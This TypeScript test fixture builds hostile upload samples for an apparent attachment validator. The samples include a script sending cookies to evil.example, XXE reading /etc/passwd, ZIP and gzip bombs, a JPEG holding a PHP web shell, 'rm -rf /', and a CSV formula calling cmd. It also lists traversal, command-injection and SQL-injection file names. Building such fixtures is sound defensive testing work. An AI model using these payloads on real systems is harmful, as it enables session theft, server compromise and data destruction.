import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { contents } from './files';

export interface HostileFile {
  what: string;
  content: Buffer;
  name?: string;
  type?: string;
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const text = (value: string) => Buffer.from(value);
const hex = (value: string) => Buffer.from(value.replaceAll(' ', ''), 'hex');

/** Documents that run scripts in a browser. */
const active: Record<string, Buffer> = {
  HTML: text(`<!DOCTYPE html><html><body>${script}</body></html>`),
  'HTML behind white space': text(`\r\n\t  <HTML>${script}`),
  'HTML behind a byte order mark': text(`\ufeff<html>${script}`),
  'a bare script': text(script),
  'a comment that opens HTML': text(`<!-- x -->${script}`),
  'an iframe': text('<iframe src="javascript:alert(1)">'),
  'a body with a handler': text('<body onload=alert(1)>'),
  'a style': text('<style>@import "//evil.example"</style>'),
  'an anchor': text('<a href="javascript:alert(1)">x</a>'),
  SVG: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
  'SVG with a prolog': text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  'SVG behind a comment': text(`<!-- a --><svg onload=alert(1)>`),
  XHTML: text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  'XML with an external entity': text(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ),
  'XML with a billion laughs': text(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
  ),
  'HTML in UTF-16': Buffer.from(`\ufeff<html>${script}`, 'utf16le'),
  'HTML in UTF-7': text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-\0'),
};

/** Programs, archives and other formats that nobody attaches to a work order. */
const foreign: Record<string, Buffer> = {
  'a Windows program': Buffer.concat([hex('4d5a90000300000004000000ffff0000'), Buffer.alloc(200)]),
  'an ELF program': Buffer.concat([hex('7f454c4602010100'), Buffer.alloc(100)]),
  'a Mach-O program': Buffer.concat([hex('cffaedfe07000001'), Buffer.alloc(100)]),
  'a Java class': hex('cafebabe0000003400000000'),
  'a ZIP': Buffer.concat([hex('504b0304140000000800'), Buffer.alloc(20), deflateRawSync(Buffer.alloc(100_000))]),
  'an empty ZIP': Buffer.concat([hex('504b0506'), Buffer.alloc(18)]),
  'a ZIP bomb': Buffer.concat([
    hex('504b0304'),
    hex('1400000008000000000000000000ffffffffffffffff0100000061'),
    deflateRawSync(Buffer.alloc(5_000_000)),
  ]),
  'a gzip bomb': Buffer.concat([hex('1f8b0800000000000003'), deflateRawSync(Buffer.alloc(5_000_000))]),
  'a RAR': hex('526172211a0700cf9073'),
  'a 7z': hex('377abcaf271c00040000'),
  'a TAR': Buffer.concat([Buffer.from('x'.padEnd(257, '\0')), Buffer.from('ustar\x0000'), Buffer.alloc(200)]),
  'a SQLite database': Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(100)]),
  'an OLE document': Buffer.concat([hex('d0cf11e0a1b11ae1'), Buffer.alloc(600)]),
  'a shortcut': hex('4c0000000114020000000000c000000000000046'),
  PostScript: text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  RTF: text('{\\rtf1\\ansi{\\object\\objdata 0105}}'),
  WebAssembly: hex('0061736d01000000'),
  Flash: hex('4357530a00000000'),
  'a font': hex('00010000000a0080'),
  MP4: hex('00000018667479706d70343200000000'),
  MP3: hex('49443303000000000000'),
  TIFF: hex('49492a0008000000'),
  BMP: Buffer.concat([hex('424d46000000000000003600000028000000'), Buffer.alloc(60)]),
  'an icon': hex('000001000100101000000100'),
  'a PNG without its header': contents.png.subarray(4),
  'a JPEG cut to two bytes and a zero': Buffer.concat([contents.jpeg.subarray(0, 2), Buffer.alloc(1)]),
  zeros: Buffer.alloc(1000),
  'one zero': Buffer.alloc(1),
  ones: Buffer.alloc(1000, 0xff).fill(0x81, 0, 3),
  'text that ends in a program': Buffer.concat([Buffer.alloc(70_000, 'a'), hex('7f454c4602010100')]),
  'text with an escape sequence': text('\x1b]0;evil\x07'),
  'text with a backspace': text('safe\b\b\b\bevil'),
  'text in UTF-16': Buffer.from('leak', 'utf16le'),
  'UTF-8 cut in the middle, with what Windows-1252 lacks': hex('c3a4 e2 81'),
};

/** Pictures that are something else as well. They are stored as pictures and never handed out as anything else. */
const polyglots: Record<string, Buffer> = {
  'a GIF that is a script': Buffer.concat([text('GIF89a/*'), Buffer.alloc(20, 0x20), text(`*/=1;alert(1)//${script}`)]),
  'a PNG with HTML behind it': Buffer.concat([contents.png, text(`<html>${script}`)]),
  'a JPEG with a comment that is PHP': Buffer.concat([
    hex('ffd8fffe0020'),
    text('<?php system($_GET[1]); ?>'),
    hex('ffd9'),
  ]),
  'a PNG with a ZIP behind it': Buffer.concat([contents.png, foreign['a ZIP']!]),
  'a PDF that is HTML': Buffer.concat([contents.pdf, text(script)]),
  'a PDF with JavaScript': text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'a WEBP with a program behind it': Buffer.concat([contents.webp, foreign['an ELF program']!]),
  'a PNG that claims a billion pixels': Buffer.concat([
    contents.png.subarray(0, 16),
    hex('7fffffff7fffffff'),
    contents.png.subarray(24),
  ]),
  'a GIF that claims 65535 by 65535': Buffer.concat([text('GIF89a'), hex('ffffffff800000'), Buffer.alloc(30)]),
  'a PNG that ends early': contents.png.subarray(0, 20),
  'a JPEG of random bytes': Buffer.concat([contents.jpeg.subarray(0, 20), randomBytes(100_000)]),
  'text that is a script later on': text(`On 3 March the seal broke.\n${script}`),
  'text that looks like a formula': text('=cmd|"/c calc"!A1,2,3'),
  'a shell script': text('#!/bin/sh\nrm -rf /\n'),
  'text that begins like a model': text('solid coupling, loose bolt'),
  'text that begins like a bitmap': text('BMW of the manager blocks the gate'),
  'text that turns its direction around': text('\u202egpj.exe'),
};

export const hostileNames = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\cmd.exe',
  '/etc/shadow',
  'C:\\autoexec.bat',
  '\\\\server\\share\\x.png',
  'a\0.png',
  '\0',
  '.',
  '..',
  '...',
  '.htaccess',
  ' ',
  'x'.repeat(256),
  `${'x'.repeat(5000)}.png`,
  '😀'.repeat(300),
  'e\u0301'.repeat(300),
  'gpj.\u202eexe',
  '\u2066hidden\u2069.png',
  '\u200f.png',
  '\ufeff.png',
  'a\r\nSet-Cookie: x=1',
  'a\nb.png',
  'a\u2028b',
  'a"; filename="b.exe',
  "a'; DROP TABLE attachments; --",
  '<script>alert(1)</script>.png',
  '$(reboot).png',
  '`id`.png',
  '%00.png',
  '%2e%2e%2f',
  '%22%0d%0a',
  'CON',
  'NUL.txt',
  'a:$DATA',
  '-rf',
  '~root',
  'a|b',
  'a.png.exe',
  'a.png%00.exe',
  'a.svg',
  'a.html',
  'a.php',
  'İıſK.png',
  '\u0000\u0001\u001f\u007f\u009f',
  'ﷺ'.repeat(255),
  '__proto__',
  'constructor',
];

const lies: [name: string, type: string][] = [
  ['photo.jpg', 'image/jpeg'],
  ['photo.png', 'image/png'],
  ['plan.pdf', 'application/pdf'],
  ['note.txt', 'text/plain'],
];
const named = (group: Record<string, Buffer>) => Object.entries(group).map(([what, content]) => ({ what, content }));

/** What must never get in, under whichever name. */
export const refusedFiles: HostileFile[] = [...named(active), ...named(foreign)].flatMap(({ what, content }, index) =>
  lies
    .slice((index % 2) * 2, (index % 2) * 2 + 2)
    .map(([name, type]) => ({ what: `${what} as ${name}`, content, name, type })),
);

/** What may come in, for it is what it may be, and has to be handled with care. */
export const storedFiles: HostileFile[] = [
  ...named(polyglots).map((file) => ({ ...file, name: 'index.html', type: 'text/html' })),
  ...hostileNames.map((name) => ({
    what: `the name ${JSON.stringify(name).slice(0, 60)}`,
    content: contents.png,
    name,
  })),
];
